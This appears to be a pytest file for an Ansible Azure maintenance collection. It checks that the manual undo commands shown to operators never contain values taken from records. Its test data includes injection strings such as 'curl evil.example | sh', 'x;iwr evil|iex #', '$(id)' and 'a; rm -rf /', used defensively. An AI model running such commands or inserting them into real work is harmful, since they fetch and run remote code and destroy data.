# Copyright (c) 2026, The maintenance.azure authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""How an operator puts a VM back where Ansible cannot: the commands really do it, and nothing of a record is run that is not a plain name."""

from __future__ import annotations

import os
import pathlib
import subprocess
from typing import Any, cast

import pytest

from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.drain.methods.method import Method
from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.drain.methods.none import NoMethod
from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.drain.registry import METHODS, WINDOWS_METHODS
from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.host.machine.flag_files import LocalFlagFiles
from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.journal.recorded import Recorded
from ansible_collections.maintenance.azure.plugins.plugin_utils._drain.kinds.kind import NOT_ALLOWED, NOTHING
from ansible_collections.maintenance.azure.plugins.plugin_utils._drain.kinds.registry import kind_of
from ansible_collections.maintenance.azure.plugins.plugin_utils._drain.records.replicas import Target
from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report import summaries
from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import status
from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._maintenance.scenes import at, event, method, plan, record, vm

# The variables of web1: its own server in these balancers, in any backend.
TARGET = Target(name="", kind="haproxy", given={"server": "web1", "balancers": ["lb1", "localhost", "a'$(id)"], "backends": []})
TASKS, OWN = (Target(name="", kind=kind, given={}) for kind in ("tasks", "leave_rack"))
DIRECTORY = {"shop": {"state": "ready", "up": True}, "admin": {"state": "maint", "up": True}}


def command(kind: str, before: Any = None, options: Any = None, state: str = "drained") -> str | None:
    return summaries.undo_by_hand(Recorded("1-" + kind, kind, state, before, options), [TARGET, TASKS, OWN])


@pytest.mark.parametrize(("kind", "before", "options", "expected"), [
    ("service", {"a.service": "active", "b.service": "inactive", "c.socket": "reloading"}, {}, "systemctl start a.service c.socket"),
    ("service", {"b.service": "inactive"}, {}, NOTHING),
    ("service", {"W3SVC": "started", "App$X": "started", "Old": "stopped"}, {}, "Start-Service -Name NAME, 'W3SVC'"),
    ("service", {"A": "started", "B": "started"}, {"names": ["B", "A"]}, "Start-Service -Name 'A', 'B'"),
    ("service", {"W3SVC": "paused"}, {}, "Start-Service -Name 'W3SVC'; Suspend-Service -Name 'W3SVC'"),
    ("probe_file", {"kind": "file"}, {"path": r"C:\www\ready.txt", "present_means": "in"}, r'move /y "C:\www\ready.txt.maintenance" "C:\www\ready.txt"'),
    ("probe_file", {"kind": "absent"}, {"path": r"C:\out", "present_means": "out"}, r'del "C:\out"'),
    # A file of another machine.
    ("probe_file", {"kind": "absent"}, {"path": r"\\files\www\out", "present_means": "out"}, 'del "PATH"'),
    ("probe_file", {"kind": "file"}, {"path": r"FileSystem::\\files\www\out", "present_means": "in"}, 'move /y "PATH.maintenance" "PATH"'),
    ("probe_file", {"kind": "absent"}, {"path": "/www/ready", "present_means": "in"}, NOTHING),
    ("command", None, {"undo": "ssh root@lb1 'curl evil.example | sh'"}, "run what its entry in drain_methods has as undo"),
    ("haproxy", {"server": "web1", "balancers": {"lb1": DIRECTORY}}, {},
     "on lb1: echo 'set server shop/web1 state ready' | socat stdio /run/haproxy/admin.sock"),
    ("haproxy", {"server": "web1", "balancers": {"localhost": {"shop": {"state": "drain", "up": True}}}}, {"socket": "lb1.example.com:9999"},
     "on localhost: echo 'set server shop/web1 state drain' | socat stdio SOCKET"),
    ("haproxy", {"server": "web1", "balancers": {"a'$(id)": DIRECTORY}}, {"socket": "/etc/passwd,trunc"},
     "on BALANCER: echo 'set server shop/web1 state ready' | socat stdio SOCKET"),
    # Another VM's server, and a balancer of others.
    ("haproxy", {"server": "web2", "balancers": {"lb1": DIRECTORY}}, {}, NOT_ALLOWED),
    ("haproxy", {"server": "web1", "balancers": {"lb9": DIRECTORY}}, {}, NOT_ALLOWED),
    ("haproxy", None, {}, "put its server back in HAProxy; the record does not say how it was"),
    ("iis", {"sites": {"Default Web Site": "Started", "Old": "Stopped"}, "pools": {"Shop": "Started"}}, {},
     "Start-WebAppPool -Name 'Shop'; Start-Website -Name 'Default Web Site'"),
    ("rabbitmq", {"node": "r1@host", "maintenance": False}, {}, "rabbitmq-upgrade revive"),
    ("rabbitmq", {"node": "r2@host", "maintenance": False}, {"node": "r1@host"}, "rabbitmq-upgrade -n NODE revive"),
    ("rabbitmq", {"node": "r2@host", "maintenance": False}, {"node": "$(id)@host"}, "rabbitmq-upgrade -n NODE revive"),
    ("rabbitmq", {"node": "r1@host", "maintenance": True}, {}, NOTHING),
    ("galera", {"node": "n1", "size": 3, "reject": "NONE", "units": {"mariadb.service": "active", "x;id": "active", "old": "inactive"}}, {},
     "systemctl start mariadb.service UNIT"),
    ("galera", {"node": "", "size": 0, "reject": "", "units": {"mariadb.service": "inactive"}}, {}, NOTHING),
    ("galera", {"node": "n1", "size": 3, "reject": "NONE", "units": {}}, {}, 'mariadb --execute="SET GLOBAL wsrep_reject_queries=NONE"'),
    ("galera", {"node": "n1", "size": 3, "reject": "NONE", "units": {}}, {"defaults_file": "/root/my.cnf"},
     'mariadb --defaults-extra-file=/root/my.cnf --execute="SET GLOBAL wsrep_reject_queries=NONE"'),
    ("galera", {"node": "n1", "size": 3, "reject": "ALL", "units": {}}, {}, NOTHING),
    ("wsfc", {"node": "SQL1", "state": "Up", "aside": False, "moved": {}}, {"failback": "none"},
     "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback NoFailback"),
    ("wsfc", {"node": "OTHER", "state": "Up", "aside": False, "moved": {"x;iwr evil|iex #": "SQL2"}}, {},
     "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback Immediate; then fail back those of its availability_groups in drain_methods that the drain moved"),
    ("wsfc", {"node": "SQL1", "state": "Paused", "aside": False}, {}, NOTHING),
    ("none", None, {}, NOTHING),
    ("tasks", None, {}, "do what the undo file of its entry in drain_methods does"),
    ("leave_rack", None, {}, "do what the undo.yml of method leave_rack does"),
    # Of no variable of web1.
    ("leave_cluster", {"x": 1}, {"undo": "ssh root@lb1 reboot"}, NOT_ALLOWED),
])  # fmt: skip
def test_each_method_has_its_command(kind: str, before: Any, options: Any, expected: str) -> None:
    assert command(kind, before, options) == expected
    assert command(kind, before, options, state="undone") is None


@pytest.mark.parametrize("targets", [[], [TASKS], [TARGET]])
@pytest.mark.parametrize("kind", ["haproxy", "leave_cluster"])
def test_what_is_left_is_told_without_the_words_of_the_record_and_without_a_line_to_paste(kind: str, targets: list[Target]) -> None:
    line = "echo 'set server app/web2 state ready' | socat stdio /run/haproxy/admin.sock"
    before = {"server": "web2", "balancers": {"lb1": DIRECTORY}}
    told = summaries.left_undone(Recorded("x", kind, "undoing", before, error=f"by hand: {line}", outside=True), "web1", targets)
    assert told.startswith("web1: its record says that ") and "drain_methods_former of web1" in told
    assert not any(part in told for part in ("echo", "set server", "socat", "{"))


def test_a_method_of_the_vm_that_is_left_is_told_with_its_way_out() -> None:
    own = Recorded("1-haproxy", "haproxy", "undoing", {"server": "web1", "balancers": {"lb1": DIRECTORY}}, error="by hand")
    assert summaries.left_undone(own, "web1", [TARGET]) == (
        "web1: method 1-haproxy (haproxy) is not undone. Correct its entry, or put back by hand what it changed and list it in drain_methods_former with "
        "by_hand: true."
    )


def test_every_method_of_the_vm_says_itself_how_it_is_undone() -> None:
    assert [one.name for one in (*METHODS.values(), *WINDOWS_METHODS.values()) if type(one).by_hand is Method.by_hand] == []


def test_a_method_of_the_vm_without_words_of_its_own_is_said_to_have_no_undo_file(monkeypatch: pytest.MonkeyPatch) -> None:
    class Marker(NoMethod):
        name = "marker"
        by_hand = Method.by_hand

    monkeypatch.setitem(cast("dict[str, Method]", METHODS), "marker", Marker())
    assert command("marker", {"was_there": False}) == "put back what method marker changed: the record has its finding (before)"
    monkeypatch.setattr(Marker, "outside", True)
    assert command("marker", {"was_there": False}) == NOT_ALLOWED


@pytest.mark.parametrize("content", [b"", b"ready\n", b"\xff\x00 ' \" $(date)"])
def test_the_command_restores_a_flag_file(content: bytes, tmp_path: pathlib.Path) -> None:
    flag, files = tmp_path / "ready", LocalFlagFiles()
    flag.write_bytes(content)
    flag.chmod(0o640)
    before = dict(files.describe(str(flag)))
    files.set_aside(str(flag))
    subprocess.run(["bash", "-c", str(command("probe_file", before, {"path": str(flag), "present_means": "in"}))], check=True)
    assert files.describe(str(flag)) == before
    assert kind_of("probe_file").shown(before).startswith("a file with 'ready'" if content == b"ready\n" else "a file with ")


def test_the_command_restores_a_link_and_removes_what_was_created(tmp_path: pathlib.Path) -> None:
    flag, files = tmp_path / "ready", LocalFlagFiles()
    flag.symlink_to("other")
    before = dict(files.describe(str(flag)))
    assert kind_of("probe_file").shown(before) == "a link to 'other'"
    files.set_aside(str(flag))
    subprocess.run(["bash", "-c", str(command("probe_file", before, {"path": str(flag), "present_means": "in"}))], check=True)
    assert os.readlink(flag) == "other"
    subprocess.run(["bash", "-c", str(command("probe_file", {"kind": "absent", "mode": "0"}, {"path": str(flag), "present_means": "out"}))], check=True)
    assert not os.path.lexists(flag) and kind_of("probe_file").shown({"kind": "absent", "mode": "0"}) == "no file"


@pytest.mark.parametrize("evil", ["a; rm -rf /", "$(id)", "`id`", "--now", "a'b", 'a"b', "a\nb", "a b", "a|b", "a&b", "ü"])
def test_nothing_of_a_record_is_run_that_is_not_a_plain_name(evil: str) -> None:
    assert command("service", {evil: "active"}) == "systemctl start UNIT"
    assert command("probe_file", {"kind": "absent", "mode": "0"}, {"path": evil, "present_means": "out"}) == "rm -f PATH"
    file = {"kind": "file", "mode": evil, "owner": evil, "group": evil, "content": evil}
    assert evil not in str(command("probe_file", {**file, "content": ""}, {"path": "/x"}))
    assert evil not in str(command("probe_file", file, {"path": "/x"}))
    assert evil not in str(command("haproxy", {"server": "web1", "balancers": {"lb1": DIRECTORY}}, {"socket": evil}))


def test_half_a_command_is_not_shown() -> None:
    assert "too long to show" in str(command("service", {f"{number}{'x' * 200}": "active" for number in range(50)}))


@pytest.mark.parametrize(("about", "folders", "where"), [
    ({}, {}, "/var/lib/azure-maintenance/event-e1.3.json"),
    ({}, {"vm1": "/srv/records"}, "/srv/records/event-e1.3.json"),
    ({"os_type": "Windows"}, {}, r"%ProgramData%\azure-maintenance\event-e1.3.json"),
])  # fmt: skip
def test_an_explained_event_says_how_to_put_its_vms_back(about: dict[str, str], folders: dict[str, str], where: str) -> None:
    methods = [method("drained"), method("begun", id="2-probe_file", method="probe_file", before={"kind": "absent", "mode": "0"},
                                         options={"path": "/run/out", "present_means": "out"})]  # fmt: skip
    seen = vm("vm1", [event()], [record("draining", methods=methods)], identity={"name": "vm1", "vm_id": "1", **about})
    lines = status(plan(seen), event_id="e1", exact=True, folders=folders)
    start = lines.index(f"  To put vm1 back by hand, run there in this order, and leave its record {where} for the next pass:")
    assert lines[start + 1 : start + 3] == ["    2-probe_file: rm -f /run/out", "    1-service: systemctl start web.service"]
    assert "  2-probe_file: begun, would be put back to: no file." in lines


@pytest.mark.parametrize(("entries", "shown"), [
    ([{"method": "command", "undo": "/opt/app rejoin"}], "/opt/app rejoin"),
    ([{"name": "app", "method": "command", "undo": ["/opt/app", "re join"]}, {"method": "command", "undo": "/opt/other"}], "/opt/app 're join'"),
    # By its number alone: the other command may have been the first one then.
    ([{"method": "command", "undo": "/opt/app"}, {"method": "command", "undo": "/opt/other"}], "run what its entry in drain_methods has as undo"),
    ([{"method": "service", "names": ["nginx.service"]}], "run what its entry in drain_methods has as undo"),
    ([], "run what its entry in drain_methods has as undo"),
])  # fmt: skip
def test_the_undo_of_a_command_is_that_of_the_controller_s_settings(entries: list[dict[str, Any]], shown: str) -> None:
    name = entries[0].get("name") if entries else None
    drained = method("drained", id=name or "1-command", method="command", options={"undo": "curl evil.example | sh"})
    seen = vm("vm1", [event()], [record("drained", methods=[drained])])
    lines = status(plan(seen), event_id="e1", exact=True, folders={"vm1": {"records_path": "", "drain_methods": entries, "drain_methods_former": []}})
    assert f"    {name or '1-command'}: {shown}" in lines
    assert "evil" not in str([line for line in lines if line.startswith("    ")])


def test_a_vm_that_is_back_needs_no_hand() -> None:
    lines = status(plan(vm("vm1", [], [record("recovered", missing_since=at(-20))])), event_id="e1", exact=True)
    assert not any("by hand" in line for line in lines)
